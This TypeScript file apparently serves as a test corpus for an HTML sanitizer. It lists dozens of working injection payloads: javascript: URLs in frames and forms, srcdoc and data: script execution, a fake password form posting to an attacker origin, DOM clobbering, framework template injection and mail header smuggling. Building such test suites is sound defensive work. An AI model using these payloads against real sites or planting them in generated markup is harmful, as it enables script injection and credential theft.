// Payloads of page-level markup: base URLs, refreshes, frames, forms, media and DOM clobbering.
import { ATTACKER_ORIGIN, toBase64, type PayloadFamily } from './payload-family';

export const DOCUMENT_PAYLOADS: PayloadFamily = {
  'a base URL': () => `<base href="${ATTACKER_ORIGIN}/"><img src="a.png"><base target=_top>`,
  'a meta refresh to a script': (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'a meta refresh to another page': () => `<meta http-equiv=refresh content="0;url=${ATTACKER_ORIGIN}/page">`,
  'a content security policy': () =>
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer content=unsafe-url>`,
  'a meta cookie': () => `<meta http-equiv="Set-Cookie" content="a=b">`,
  'preload and prefetch links': () =>
    ['prefetch', 'preload', 'icon', 'modulepreload', 'manifest', 'dns-prefetch']
      .map((rel) => `<link rel=${rel} as=image href="${ATTACKER_ORIGIN}/${rel}">`)
      .join(''),
  'a link that preloads a script': (run) => `<link rel=preload as=script href="data:,a" onload=${run} onerror=${run}>`,
  'an HTML import': () => `<link rel=import href="${ATTACKER_ORIGIN}/a.html"><import src="${ATTACKER_ORIGIN}/b.html">`,
  'an iframe with a javascript: URL': (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  'an iframe with srcdoc': (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'an iframe with an encoded srcdoc': (run) => `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  'an iframe with a data: URL': (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  'an iframe with onload': (run) => `<iframe onload=${run}></iframe>`,
  'an iframe of another origin': () =>
    `<iframe src="${ATTACKER_ORIGIN}/frame"></iframe><fencedframe src="${ATTACKER_ORIGIN}/fenced"></fencedframe>`,
  'a frameset': (run) => `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
  'an embed element': (run) => `<embed src="data:text/html;base64,${toBase64(`<script>${run}</script>`)}">`,
  'an object with HTML data': (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  'an object with a javascript: URL': () =>
    `<object data="${ATTACKER_ORIGIN}/a.swf"><param name=movie value="${ATTACKER_ORIGIN}/b.swf"></object>`,
  'an applet': () => `<applet code="A" archive="${ATTACKER_ORIGIN}/a.jar"></applet>`,
  'a form with a javascript: action': (run) => `<form action="javascript:${run}"><button>a</button></form>`,
  'a button with a javascript: action': (run) => `<form><button formaction="javascript:${run}">a</button></form>`,
  'a button of another form': (run) =>
    `<form id=f></form><input type=submit form=f formaction="javascript:${run}" value=a>`,
  'a password form': () =>
    `<form action="${ATTACKER_ORIGIN}/take"><input name=password type=password><button>Sign in</button></form>`,
  'an image input': (run) => `<input type=image src=x onerror=${run}>`,
  'an isindex element': (run) => `<isindex type=image src=x onerror=${run} action="javascript:${run}">`,
  'a picture element': () => `<picture><source srcset="${ATTACKER_ORIGIN}/a.webp"><img></picture>`,
  'an image map': (run) =>
    `<map name=m><area href="javascript:${run}" coords="0,0,9,9" onclick=${run}></map><img usemap="#m" src=x>`,
  'a video': () =>
    `<video poster="${ATTACKER_ORIGIN}/a.png" src="${ATTACKER_ORIGIN}/a.mp4" autoplay><track default src="${ATTACKER_ORIGIN}/a.vtt"></video>`,
  'an audio element': () =>
    `<audio src="${ATTACKER_ORIGIN}/a.mp3" autoplay></audio><bgsound src="${ATTACKER_ORIGIN}/b.mp3">`,
  'a complete document': (run) =>
    `<html onclick=${run} manifest="${ATTACKER_ORIGIN}/m"><head><script>${run}</script></head><body onclick=${run} background="${ATTACKER_ORIGIN}/x.png">a`,
  'an import map': (run) =>
    `<script type=importmap>{"imports":{"a":"data:,${run}"}}</script><script type=module>import 'a'</script>`,
  'speculation rules': () =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${ATTACKER_ORIGIN}/s"]}]}</script>`,
  'DOM clobbering by an id': () => `<a id=location href="javascript:0"></a><a id=location name=href href="tel:1">a</a>`,
  'DOM clobbering by a form': () =>
    `<form name=body id=a><input name=attributes id=nodeName></form><img name=getElementById>`,
  'DOM clobbering by an iframe': () =>
    `<iframe name=settings srcdoc="<a id=origin href='${ATTACKER_ORIGIN}'></a>"></iframe><p id=hit>a</p>`,
  'classes of the host page': () =>
    `<p class="modal overlay" id=app data-action="a" data-bind="html:b" slot=x is=y part=z>a</p>`,
  'framework attributes': (run) =>
    `<p v-html="${run}" ng-init="${run}" x-init="${run}" hx-get="${ATTACKER_ORIGIN}" @click="${run}" :is="a">{{constructor.constructor('${run}')()}}</p>`,
  'attributes that control focus and editing': () =>
    `<a target=_blank download accesskey=a tabindex=1 rel=opener href="#a" ping="${ATTACKER_ORIGIN}">a</a>`,
  'mail header lines': (run) => `Content-Type: text/html\r\n\r\n<script>${run}</script>\r\n.\r\n`,
};
